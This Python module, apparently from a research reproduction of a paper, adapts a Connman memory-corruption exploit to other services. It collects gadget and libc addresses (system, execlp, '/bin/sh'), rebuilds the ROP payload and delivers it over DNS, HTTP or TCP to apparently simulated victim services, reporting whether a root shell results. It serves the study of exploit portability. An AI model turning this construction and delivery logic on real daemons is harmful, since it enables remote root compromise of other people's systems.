"""Retargeting the Connman exploit at other services (§V).

* **minimal modification** (DNS family): re-run recon against the new
  binary/frame — "changing variables to memory addresses suitable for the
  targeted vulnerability" — then deliver over the same malicious-DNS
  channel;
* **moderate modification** (HTTP/TCP): additionally swap the packet
  creation algorithm — the raw stack image goes into a POST body or a
  control packet instead of a label stream.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Optional

from ..connman import DaemonEvent
from ..dns import build_raw_response, make_query
from ..exploit import Exploit, ExploitBuilder, GadgetFinder, TargetKnowledge
from ..mem import BASE_LAYOUTS
from .victims import AdaptedService, make_http_request, make_tcp_packet


def knowledge_for_service(service: AdaptedService, *, aslr_blind: Optional[bool] = None
                          ) -> TargetKnowledge:
    """Recon against an adaptation target (same procedure as for Connman)."""
    if aslr_blind is None:
        aslr_blind = service.profile.aslr
    binary = service.binary
    text = binary.section(".text")
    mapped_base = (text.address + 0x300) & ~0xFF
    common = dict(
        arch=service.spec.arch,
        frame=service.spec.frame,
        binary=binary,
        finder=GadgetFinder(binary),
        plt=dict(binary.plt),
        bss=binary.symbols.address_of("__bss_start"),
        mapped_word_base=mapped_base,
    )
    assert service.loaded is not None and service.core is not None
    if aslr_blind:
        base = BASE_LAYOUTS[service.spec.arch].libc_base
        libc = {
            name: base + service.libc_image.binary.symbols.address_of(name)
            for name in ("system", "exit", "execlp", "str_bin_sh")
        }
        return TargetKnowledge(**common, libc=libc, libc_is_assumed=True)
    place = service.core.placement()
    libc = {
        name: service.loaded.libc_address(name)
        for name in ("system", "exit", "execlp", "str_bin_sh")
    }
    return TargetKnowledge(
        **common,
        name_address=place.name_address,
        ret_slot=place.ret_slot,
        libc=libc,
    )


def adapt_exploit(builder: ExploitBuilder, service: AdaptedService,
                  *, aslr_blind: Optional[bool] = None) -> Exploit:
    """The §V 'minimal modification': same builder, new target knowledge."""
    return builder.build(knowledge_for_service(service, aslr_blind=aslr_blind))


@dataclass
class AdaptationReport:
    service_name: str
    cve_id: str
    protocol: str
    exploit: Exploit
    event: DaemonEvent

    @property
    def got_root_shell(self) -> bool:
        return self.event.is_root_shell

    def describe(self) -> str:
        return (
            f"{self.service_name} ({self.cve_id}, {self.protocol}): "
            f"{self.event.describe()}"
        )


def deliver_to_service(exploit: Exploit, service: AdaptedService,
                       rng: Optional[random.Random] = None) -> AdaptationReport:
    """Deliver over whatever transport the target service speaks."""
    rng = rng or random.Random(0xADA)
    protocol = service.spec.protocol
    if protocol == "dns":
        query = make_query(rng.randrange(1 << 16), "probe.victim.example")
        reply = build_raw_response(query, exploit.blob)
        event = service.handle_dns_reply(reply, expected_id=query.id)
    elif protocol == "http":
        event = service.handle_http_request(make_http_request(exploit.payload.image))
    elif protocol == "tcp":
        event = service.handle_tcp_packet(make_tcp_packet(exploit.payload.image))
    else:  # pragma: no cover - specs are closed
        raise ValueError(f"unknown protocol {protocol!r}")
    return AdaptationReport(
        service_name=service.spec.name,
        cve_id=service.spec.cve_id,
        protocol=protocol,
        exploit=exploit,
        event=event,
    )
